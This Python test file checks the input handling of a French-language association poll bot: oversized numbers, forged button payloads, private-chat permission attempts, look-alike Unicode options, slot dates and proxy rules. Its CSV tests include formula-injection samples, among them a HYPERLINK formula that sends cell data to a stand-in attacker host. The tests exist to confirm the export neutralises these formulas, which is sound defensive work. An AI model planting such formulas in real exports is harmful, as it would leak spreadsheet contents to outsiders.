"""Polls against a hostile member and a careful secretary (issue 9): numbers beyond SQLite's
range, private chats acting as organizer, posting everywhere, nudges naming other rooms' members,
look-alike options, formulas in the CSV export, slots whose weekday contradicts the date."""

from __future__ import annotations

import csv
import io
import logging
import re
from dataclasses import replace

import pytest

from bot.csvsafe import safe_cell, write_csv
from tests.harness import Harness
from tests.test_polls import capture_sends

HUGE = "99999999999999999999"


async def _pair(bot: Harness) -> None:
    """Link ``bureau`` to ``asso`` (alice organizes both)."""
    bot.organizer("alice", "bureau")
    replies = await bot.say("/lier", room="asso", member="alice")
    match = re.search(r"Code de liaison : ([A-Z0-9]{8})", replies[0])
    assert match
    await bot.say(f"/lier {match.group(1)}", room="bureau", member="alice")


def _errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]


# Numbers beyond SQLite's range ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (f"/vote {HUGE} 1", f"{HUGE} est trop grand : aucun élément ne porte ce numéro."),
        (f"/vote #{HUGE} 1", f"#{HUGE} est trop grand : aucun élément ne porte ce numéro."),
        (f"/vote {HUGE}", f"Le sondage n°1 a les options 1 à 2 : « {HUGE} » n'en fait"),
        (f"/vote 1 {HUGE}", f"Le sondage n°1 a les options 1 à 2 : « {HUGE} » n'en fait"),
        ("/vote 1 " + "9" * 5000, f"Le sondage n°1 a les options 1 à 2 : « {'9' * 23}… »"),
        (f"/cloturer {HUGE}", f"{HUGE} est trop grand : aucun élément ne porte ce numéro."),
        (f"/prolonger {HUGE} jusqu'à samedi", f"{HUGE} est trop grand"),
        (f"/relancer {HUGE}", f"{HUGE} est trop grand"),
        (f"/quand ics {HUGE}", f"{HUGE} est trop grand"),
        (f"/quand ics 1 {HUGE}", "Le sondage n°1 a les options 1 à 2"),
        (f"/procuration @bob {HUGE}", f"{HUGE} est trop grand"),
        ("/cloturer ١", "١ n’est pas un nombre : écrivez-le en chiffres, par exemple 3."),
        (
            f"/motion Budget | {HUGE} membres",
            "Le nombre de membres va de 1 à 100\u202f000.",
        ),
        (f"/motion Budget | quorum {HUGE}%", "Un quorum est un pourcentage de 0 à 100."),
        (
            f"/sondage Pizza ? | Reine | Calzone | au plus {HUGE}",
            "« Au plus » compte des choix : au plus le nombre d'options (20 au maximum).",
        ),
        (
            "/sondage Pizza ? | Reine | Calzone | au plus 5",
            "« Au plus 5 » dépasse les 2 options : écrivez au plus 2, ou multi.",
        ),
    ],
)
async def test_numbers_beyond_range_answer_clearly_and_log_nothing(
    bot: Harness, caplog: pytest.LogCaptureFixture, command: str, expected: str
) -> None:
    await bot.say("bonjour", member="bob")
    await bot.say("/sondage Pizza ? | Reine | Calzone")
    if "ics" in command:
        await bot.say("/cloturer 1")
        await bot.say("/quand Réunion ? | Chez Paul | Au parc")
        await bot.say("/vote 1", member="bob")
        await bot.say("/cloturer 2")
        command = command.replace("ics 1 ", "ics 2 ")
        expected = expected.replace("n°1", "n°2")
    caplog.clear()

    with caplog.at_level(logging.ERROR):
        replies = await bot.say(command, member="alice")

    assert [] == _errors(caplog)
    assert 1 == len(replies)
    assert replies[0].startswith(expected)
    assert "mal passé" not in replies[0]


@pytest.mark.parametrize("payload", [f"poll:{HUGE}:1", f"poll:1:{HUGE}", "poll:١:١", "poll::"])
async def test_tap_with_a_forged_payload_is_ignored(
    bot: Harness, caplog: pytest.LogCaptureFixture, payload: str
) -> None:
    await bot.say("/sondage Pizza ? | Reine | Calzone")
    bot.console.state.member = "bob"
    press = bot.console.tap(1)
    assert press is not None
    caplog.clear()

    with caplog.at_level(logging.ERROR):
        await bot.app.press(replace(press, data=payload))

    assert [] == _errors(caplog)
    assert [] == bot.app.store.polls.ballots(1)


# A private chat gives no role in the association's rooms --------------------------------------


@pytest.mark.parametrize("command", ["/cloturer 1", "/prolonger 1 jusqu'à samedi", "/relancer 1"])
async def test_close_extend_nudge_from_a_private_chat_are_refused(
    bot: Harness, command: str
) -> None:
    for member in ("bob", "carol"):
        await bot.say("présent", member=member)
    await bot.say("/motion Budget | secret", member="alice")
    await bot.say("/vote pour", member="carol")

    replies = await bot.say(command, member="bob", room="dm-bob")

    assert [
        "Une discussion privée ne donne aucun rôle dans les salons de l'association : seul le "
        "créateur du sondage n°1 ou un organisateur peut faire cela, dans le salon du sondage."
    ] == replies
    poll = bot.app.store.polls.get(1)
    assert poll is not None and poll.is_open and poll.closes_at is None
    assert poll.nudged_at is None


async def test_close_from_a_private_chat_by_the_polls_creator_is_allowed(bot: Harness) -> None:
    await bot.say("/sondage Pizza ? | Reine | Calzone", member="bob")

    replies = await bot.say("/cloturer 1", member="bob", room="dm-bob")

    assert replies[0].startswith("🔒 Clôturé : 📊 Sondage n°1 : Pizza ?")
    assert not bot.app.store.polls.get(1).is_open  # type: ignore[union-attr]


async def test_close_by_an_organizer_of_a_linked_room_is_allowed(bot: Harness) -> None:
    await _pair(bot)
    bot.organizer("dan", "bureau")
    await bot.say("/sondage Pizza ? | Reine | Calzone", member="alice", room="asso")

    await bot.say("/cloturer 1", member="dan", room="bureau")

    assert not bot.app.store.polls.get(1).is_open  # type: ignore[union-attr]


async def test_close_by_an_organizer_of_another_room_only_is_refused(bot: Harness) -> None:
    bot.organizer("dan", "ailleurs")
    await bot.say("/sondage Pizza ? | Reine | Calzone", member="alice", room="asso")

    replies = await bot.say("/cloturer 1", member="dan", room="asso")

    assert ["Seul le créateur du sondage ou un organisateur peut faire cela."] == replies


# Everywhere is for organizers ----------------------------------------------------------------


async def test_poll_everywhere_by_a_member_is_refused(bot: Harness) -> None:
    await _pair(bot)

    replies = await bot.say("/sondage Pizza ? | Reine | Calzone | partout", member="bob")

    assert [
        "Seul un organisateur peut publier dans tous les salons reliés : retirez « partout » "
        "pour publier dans ce salon."
    ] == replies
    assert bot.app.store.polls.get(1) is None


async def test_poll_everywhere_by_an_organizer_reaches_every_linked_room(bot: Harness) -> None:
    await _pair(bot)

    replies = await bot.say("/sondage Pizza ? | Reine | Calzone | partout", member="alice")

    assert "Publié dans 2 salons reliés." in replies


# A nudge names only the members of the room it is posted in ----------------------------------


async def test_nudge_names_only_members_seen_in_its_room(bot: Harness) -> None:
    await _pair(bot)
    for member in ("bob", "carol"):
        await bot.say("bonjour", member=member, room="asso")
    await bot.say("ordre du jour", member="tresoriere_secrete", room="bureau")
    await bot.say("/sondage Pizza ? | Reine | Calzone", member="alice", room="asso")
    await bot.say("/vote 1", member="alice", room="asso")

    replies = await bot.say("/relancer", member="alice", room="asso")

    assert "tresoriere" not in replies[0]
    assert "3 membres n'ont pas encore voté : @bob, @carol et 1 autre." in replies[0]


async def test_nudge_in_a_room_where_no_missing_member_was_seen_only_counts(
    bot: Harness,
) -> None:
    await _pair(bot)
    await bot.say("ordre du jour", member="tresoriere_secrete", room="bureau")
    await bot.say("/sondage Pizza ? | Reine | Calzone", member="alice", room="asso")
    await bot.say("/vote 1", member="alice", room="asso")

    replies = await bot.say("/relancer", member="alice", room="asso")

    assert "\n1 membre n'a pas encore voté.\n" in replies[0]


# Look-alike options and room-language command names ------------------------------------------


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("a", "a\u200b"),
        ("🍕", "🍕\ufe0f"),
        ("Reine", "ｒｅｉｎｅ"),
        ("Chez Paul", "Chez\u00a0Paul"),
    ],
)
async def test_poll_with_look_alike_options_is_refused(
    bot: Harness, first: str, second: str
) -> None:
    replies = await bot.say(f"/sondage Pizza ? | {first} | {second}")

    assert replies[0].startswith("L'option « ")
    assert "est donnée deux fois" in replies[0]
    assert bot.app.store.polls.get(1) is None


async def test_vote_by_the_text_of_a_look_alike_option(bot: Harness) -> None:
    await bot.say("/sondage Pizza ? | 🍕 | 🥗")

    await bot.say("/vote 🍕\ufe0f\u200b", member="bob")

    assert {1: 2} == bot.app.store.polls.ballot_of(1, "console:bob")


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("fr", "Export : /decisions csv ou /decisions markdown."),
        ("en", "Export: /decisions csv or /decisions markdown."),
    ],
)
async def test_register_names_the_export_command_of_the_room(
    bot: Harness, language: str, expected: str
) -> None:
    await bot.say(f"/langue {language}")
    await bot.say("/sondage Pizza ? | Reine | Calzone")
    await bot.say("/cloturer")

    replies = await bot.say("/decisions")

    assert replies[0].endswith(expected)


# Formulas in the CSV export ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")', "'=HYPERLINK("),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Budget 2027", "Budget 2027"),
        ("12", "12"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell_neutralises_formulas(value: object, expected: str) -> None:
    assert safe_cell(value).startswith(expected)
    assert expected == "" or safe_cell(value).endswith(str(value)[1:])


def test_write_csv_has_a_byte_order_mark_and_safe_cells() -> None:
    content = write_csv([["question", "voters"], ["=1+1", 3]])

    assert "\ufeffquestion,voters\n'=1+1,3\n".encode() == content


async def test_register_csv_neutralises_a_formula_in_a_poll_title(bot: Harness) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
    await bot.say(f"/sondage {title} | Oui | Non")
    await bot.say("/vote 1", member="bob")
    await bot.say("/cloturer", member="alice")
    sent = capture_sends(bot)

    await bot.say("/decisions csv", member="alice")

    attachment = sent[-1].attachment
    assert attachment is not None
    rows = list(csv.reader(io.StringIO(attachment.content.decode("utf-8-sig"))))
    assert "'" + title == rows[1][2]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# Date-poll slots whose weekday contradicts the date ------------------------------------------


@pytest.mark.parametrize(
    ("slots", "expected"),
    [
        (
            "mardi 5 janvier 2027 | lundi 5 janvier 2027",
            "Le créneau « lundi 5 janvier 2027 » ne correspond pas à sa date : mardi 5 janvier "
            "2027. Corrigez le jour ou la date.",
        ),
        (
            "lun 7/12 18h | mer 8/12 18h",
            "Le créneau « mer 8/12 18h » ne correspond pas à sa date : mardi 8 décembre 2026. "
            "Corrigez le jour ou la date.",
        ),
    ],
)
async def test_when_slot_whose_weekday_contradicts_its_date_is_refused(
    bot: Harness, slots: str, expected: str
) -> None:
    replies = await bot.say(f"/quand Réunion ? | {slots}")

    assert replies[0].startswith(expected)
    assert bot.app.store.polls.get(1) is None


async def test_when_slot_weekday_contradiction_in_english(bot: Harness) -> None:
    await bot.say("/language en")

    replies = await bot.say("/when Meeting? | Tue 5 January 2027 | Mon 5 January 2027")

    assert replies[0].startswith(
        "The slot “Mon 5 January 2027” does not match its date: Tuesday 5 January 2027. "
        "Correct the day or the date.\n"
    )


@pytest.mark.parametrize(
    "slots", ["mardi 5 janvier 2027 | mercredi 6 janvier 2027", "Chez Paul | Au parc", "lun | mar"]
)
async def test_when_slots_that_agree_or_are_no_dates_are_accepted(
    bot: Harness, slots: str
) -> None:
    await bot.say(f"/quand Réunion ? | {slots}")

    assert bot.app.store.polls.get(1) is not None


# Proxies in a secret motion: the code says what README says -----------------------------------


async def test_secret_motion_giver_who_votes_first_keeps_her_own_vote(bot: Harness) -> None:
    for member in ("bob", "carol"):
        await bot.say("présent", member=member)
    await bot.say("/procuration @bob", member="carol")
    await bot.say("/motion Budget | secret", member="alice")
    await bot.say("/vote contre", member="carol")
    await bot.say("/vote pour", member="bob")

    closed = await bot.say("/cloturer", member="alice")

    assert "Rejetée. Pour : 1 · Contre : 1 ·" in closed[0]


async def test_secret_motion_giver_after_her_holder_is_told_he_voted_for_her(
    bot: Harness,
) -> None:
    for member in ("bob", "carol"):
        await bot.say("présent", member=member)
    await bot.say("/procuration @bob", member="carol")
    await bot.say("/motion Budget | secret", member="alice")
    await bot.say("/vote pour", member="bob")

    blocked = await bot.say("/vote 1 contre", member="carol", room="dm-carol")
    again = await bot.say("/vote 1 contre", member="bob", room="dm-bob")

    assert [
        "Votre mandataire a déjà voté pour vous à ce scrutin secret : un vote secret ne peut pas "
        "être repris, votre propre vote ne peut donc pas le remplacer."
    ] == blocked
    assert [
        "Vous avez déjà voté à ce scrutin secret ; un vote secret ne peut pas être modifié."
    ] == again


async def test_proxy_reply_says_when_the_givers_own_vote_counts(bot: Harness) -> None:
    await bot.say("/language en")
    await bot.say("présent", member="bob")

    replies = await bot.say("/proxy @bob", member="carol")

    assert [
        "Bob now votes for you on every motion. If you vote yourself, your own vote counts — in "
        "a secret ballot only if you vote before Bob does, as a secret vote cannot be taken "
        "back. Take your proxy back with /proxy remove."
    ] == replies


# A closed motion's outcome is frozen ----------------------------------------------------------


async def _budget_rejected(bot: Harness) -> None:
    """« Budget 2027 » closed rejected 1–1; Dan has not voted."""
    for member in ("bob", "carol", "dan"):
        await bot.say("présent", member=member)
    await bot.say("/motion Budget 2027", member="alice")
    await bot.say("/vote pour", member="bob")
    await bot.say("/vote contre", member="carol")
    await bot.say("/cloturer", member="alice")


@pytest.mark.parametrize(
    "after", [["/procuration @bob"], ["/procuration @bob", "/procuration retirer"]]
)
async def test_closed_motion_outcome_does_not_change_with_later_proxies(
    bot: Harness, after: list[str]
) -> None:
    await _budget_rejected(bot)
    before = await bot.say("/decisions", member="alice")
    sent = capture_sends(bot)
    csv_before = (await bot.say("/decisions csv", member="alice"), sent[-1].attachment)

    for command in after:
        await bot.say(command, member="dan")
    listing = await bot.say("/decisions", member="alice")
    await bot.say("/decisions csv", member="alice")
    markdown = await bot.say("/decisions markdown", member="alice")

    assert "« Budget 2027 » → Rejetée. Pour : 1 · Contre : 1 ·" in listing[0]
    assert before == listing
    assert csv_before[1] is not None and sent[-2].attachment is not None
    assert csv_before[1].content == sent[-2].attachment.content
    assert sent[-1].attachment is not None
    assert "| Rejetée. Pour : 1 · Contre : 1 ·" in sent[-1].attachment.content.decode()
    assert markdown


async def test_closed_motion_result_is_stored_with_the_rule_applied(bot: Harness) -> None:
    await _budget_rejected(bot)

    frozen = bot.app.store.polls.frozen(1)

    assert frozen is not None
    assert ("rejected", 2, 2, "simple", "cast") == (
        frozen.outcome,
        frozen.voters,
        frozen.votes_cast,
        frozen.majority,
        frozen.majority_of,
    )
    assert {(1, 2): 1, (2, 2): 1} == frozen.counts


async def test_proxy_of_a_closed_motion_stays_and_is_no_longer_listed(bot: Harness) -> None:
    for member in ("bob", "carol"):
        await bot.say("présent", member=member)
    await bot.say("/motion Budget", member="alice")
    await bot.say("/procuration @bob 1", member="carol")
    await bot.say("/vote pour", member="bob")
    await bot.say("/cloturer", member="alice")

    listing = await bot.say("/procuration", member="carol")
    revoked = await bot.say("/procuration retirer", member="carol")
    late = await bot.say("/procuration @bob 1", member="carol")
    decisions = await bot.say("/decisions", member="alice")

    assert ["Vous n'avez donné ni ne détenez aucune procuration."] == listing
    assert ["Vous n'avez donné votre voix à personne."] == revoked
    assert ["Les procurations valent pour les motions ouvertes : le n°1 n'en est pas une."] == late
    assert "Adoptée. Pour : 2 · Contre : 0 ·" in decisions[0]
